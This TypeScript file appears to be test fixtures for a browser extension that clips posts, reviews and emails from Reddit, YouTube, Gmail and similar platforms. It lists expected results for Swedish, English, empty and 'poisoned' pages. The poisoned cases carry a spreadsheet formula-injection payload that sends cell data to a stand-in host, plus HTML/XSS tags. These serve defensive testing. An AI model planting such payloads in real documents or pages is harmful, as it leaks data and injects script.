import type { Case } from './expected.ts';

const FORMULA = '=IMAGE("https://elak.exempel/?"&A2)';
const TAG = '<img src=x onerror=alert(1)>';

/** Platforms read by a table (extension/clip/sites/cards.ts): a post, a comment, nothing, and a poisoned page each. */
export const CARD_CASES: readonly Case[] = [
  ...cases('reddit', 'https://www.reddit.com/r/norrby/comments/a1/', {
    sv: [
      [
        undefined,
        {
          kind: 'post',
          text: 'Grinden är låst sedan jul.\n\nVem har nyckeln?',
          author: 'tall_i_backen',
          published: '2026-03-02T08:15:00.000000+00:00',
          permalink: 'https://www.reddit.com/r/norrby/comments/a1/',
        },
      ],
      [
        'Tack, jag ringer dem',
        {
          kind: 'comment',
          text: 'Tack, jag ringer dem.',
          author: 'tall_i_backen',
          published: '2026-03-02T09:30:00.000Z',
          permalink: 'https://www.reddit.com/r/norrby/comments/a1/comment/c8/',
        },
      ],
    ],
    en: [
      [undefined, { text: 'Could we have a bench by the library?', author: 'mossy_step' }],
      ['in the shade', { kind: 'comment', text: 'Yes, and in the shade.', author: 'ivy_gate' }],
    ],
    poisoned: { text: FORMULA, author: '"><script>', published: '' },
  }),
  ...cases('trustpilot', 'https://se.trustpilot.com/review/exempel.se', {
    sv: [
      [
        'Kön till simskolan',
        {
          kind: 'post',
          text: 'Kön till simskolan gick inte att ställa sig i.\nIngen svarar i telefon.',
          author: 'Tova Lind',
          published: '2026-03-02T07:15:00.000Z',
          permalink: 'https://se.trustpilot.com/reviews/6a',
        },
      ],
    ],
    en: [['Friendly staff', { text: 'Friendly staff at the desk.', author: 'Omar Vale' }]],
    poisoned: {
      text: FORMULA,
      author: TAG,
      published: '',
      permalink: 'https://se.trustpilot.com/review/exempel.se',
    },
  }),
  ...cases('instagram', 'https://www.instagram.com/p/Q1a/', {
    sv: [
      [
        undefined,
        {
          text: 'Lekplatsen är avstängd igen 😕',
          author: 'norrbybor',
          published: '2026-03-03T12:00:00.000Z',
          permalink: 'https://www.instagram.com/p/Q1a/',
          certainty: {
            text: 'guessed',
            author: 'guessed',
            published: 'guessed',
            permalink: 'guessed',
          },
        },
      ],
      [
        'Rutschkanan är trasig',
        { kind: 'comment', author: 'gard_en', permalink: 'https://www.instagram.com/p/Q1a/c/55/' },
      ],
    ],
    en: [['The pool opens late', { text: 'The pool opens late again.', author: 'oak_row' }]],
    none: null,
    poisoned: { text: FORMULA, author: TAG, published: '' },
  }),
  ...cases('threads', 'https://www.threads.com/@ronnbacken/post/D1', {
    sv: [
      [
        'Bussen gick tio minuter',
        {
          text: 'Bussen gick tio minuter för tidigt.',
          author: 'ronnbacken',
          published: '2026-03-04T10:00:00.000Z',
          permalink: 'https://www.threads.com/@ronnbacken/post/D1',
        },
      ],
      ['Samma på linje fyra', { author: 'asplund' }],
    ],
    en: [[undefined, { text: 'Who empties the bins on Mill Lane?', author: 'birch.lane' }]],
    poisoned: { text: FORMULA, author: TAG, published: '' },
  }),
  ...cases('youtube', 'https://www.youtube.com/watch?v=vid1', {
    sv: [
      [
        'När svarar ni om simhallen',
        {
          kind: 'comment',
          text: 'När svarar ni om simhallen?',
          author: 'lovisatall',
          published: '',
          publishedText: 'för 2 dagar sedan',
          permalink: 'https://www.youtube.com/watch?v=vid1&lc=Ugx1',
        },
      ],
      ['Det undrar jag också', { author: 'skogsstig', text: 'Det undrar jag också.' }],
    ],
    en: [
      ['The microphone was off', { kind: 'comment', author: 'harbour_view', publishedText: '2 weeks ago' }],
      ['about the square', { kind: 'post', author: 'District office' }],
    ],
    none: null,
    poisoned: { text: FORMULA, author: TAG, published: '' },
    pointedPoison: 'IMAGE',
  }),
  ...cases('linkedin', 'https://www.linkedin.com/feed/', {
    sv: [
      [
        'Vi i företagarföreningen',
        {
          kind: 'post',
          text: 'Vi i företagarföreningen väntar på besked om torget.',
          author: 'Petra Alm',
          publishedText: '1 v',
          permalink: 'https://www.linkedin.com/feed/update/urn:li:activity:7001/',
        },
      ],
      ['Besked lovades', { kind: 'comment', author: 'Sven Hed', text: 'Besked lovades i januari.' }],
    ],
    en: [['no lights since the storm', { author: 'Rosa Field', publishedText: '2w' }]],
    none: null,
    poisoned: { text: FORMULA, author: TAG, permalink: 'https://www.linkedin.com/feed/' },
    pointedPoison: 'IMAGE',
  }),
  ...cases(
    'google_maps',
    'https://www.google.com/maps/place/Norrby',
    {
      sv: [
        [
          'Toaletten är alltid',
          { text: 'Toaletten är alltid låst.', author: 'Bo Ek', publishedText: 'för 3 månader sedan' },
        ],
        [undefined, null],
      ],
      en: [[undefined, { text: 'The lift has been broken since May.', author: 'Omar Vale' }]],
      none: null,
      poisoned: { text: FORMULA, author: TAG, published: '' },
    },
    'google-maps',
  ),
  ...cases('nextdoor', 'https://nextdoor.se/news_feed/', {
    sv: [
      [
        'kört ned stolpen',
        {
          kind: 'post',
          text: 'Någon har kört ned stolpen vid skolan.',
          author: 'Karin Lönn',
          publishedText: '3 tim',
        },
      ],
      ['Anmält till kommunen', { kind: 'comment', author: 'Ali Strand' }],
    ],
    en: [[undefined, { text: 'The crossing by the mill has no sign.', author: 'June Alder' }]],
    none: null,
    poisoned: { text: FORMULA, author: TAG, published: '' },
  }),
  ...cases('tiktok', 'https://www.tiktok.com/@norrbyung/video/77', {
    sv: [
      [
        undefined,
        {
          kind: 'post',
          text: 'Fritidsgården stänger klockan sju. Varför?',
          author: 'norrbyung',
          permalink: 'https://www.tiktok.com/@norrbyung/video/77',
        },
      ],
      ['öppet på lördagar', { kind: 'comment', author: 'Lina B', text: 'Vi vill ha öppet på lördagar.' }],
    ],
    en: [[undefined, { text: 'The ramp has a hole in it.', published: '2026-03-01T10:00:00Z' }]],
    poisoned: { text: FORMULA, author: TAG, published: '' },
  }),
  ...cases('telegram', 'https://t.me/s/norrby', {
    sv: [
      [
        'Värden svarar inte',
        {
          text: 'Hissen på Åsvägen står still.\nVärden svarar inte.',
          author: 'Norrby grannar',
          published: '2026-03-02T11:02:00+00:00',
          permalink: 'https://t.me/norrby/11',
        },
      ],
    ],
    en: [[undefined, { text: 'The hydrant leaks.', author: 'Mill Lane' }]],
    none: null,
    poisoned: { text: FORMULA, author: TAG, published: '' },
  }),
  ...cases('gmail', 'https://mail.google.com/mail/u/0/', {
    sv: [
      [
        undefined,
        {
          text: 'Hej!\nTre lampor är släckta.',
          author: 'Siv Berg',
          published: '2026-03-02T14:05',
          title: 'Gatubelysning på Åsvägen',
        },
      ],
      ['Har ni hunnit titta', { text: 'Har ni hunnit titta?', published: '2026-03-09T08:30' }],
    ],
    en: [[undefined, { author: 'Ivy Marsh', published: '2026-03-03T21:15' }]],
    poisoned: { text: FORMULA, author: TAG, published: '' },
  }),
  ...cases('outlook', 'https://outlook.office.com/mail/', {
    sv: [
      [
        undefined,
        {
          text: 'Sopkärlen på gården är fulla varje helg.',
          author: 'Göran Lid',
          published: '2026-03-02T10:12',
        },
      ],
      ['har tagit emot ditt meddelande', { author: 'Registrator' }],
    ],
    en: [[undefined, { text: 'The gate to the playground does not close.', author: 'Harriet Moss' }]],
    poisoned: { text: FORMULA, published: '' },
  }),
];

type Expected = Case['expected'];

interface Surfaces {
  readonly sv: readonly (readonly [point: string | undefined, expected: Expected])[];
  readonly en: readonly (readonly [point: string | undefined, expected: Expected])[];
  /** A page of the platform that shows nothing to take: no words of anybody may be made up. */
  readonly none?: Expected;
  readonly poisoned: Expected;
  readonly pointedPoison?: string;
}

function cases(platform: string, url: string, surfaces: Surfaces, file = platform): readonly Case[] {
  const named = (expected: Expected): Expected =>
    expected && ({ platform, ...expected } as NonNullable<Expected>);
  const of = (language: 'sv' | 'en') =>
    surfaces[language].map(([point, expected]) => ({
      page: `${file}-${language}`,
      url,
      ...(point !== undefined && { point }),
      expected: named(expected),
    }));
  return [
    ...of('sv'),
    ...of('en'),
    {
      page: `${file}-none`,
      url,
      expected: surfaces.none === undefined ? { author: '', published: '' } : surfaces.none,
    },
    {
      page: `${file}-poisoned`,
      url,
      ...(surfaces.pointedPoison !== undefined && { point: surfaces.pointedPoison }),
      expected: named(surfaces.poisoned),
    },
  ];
}
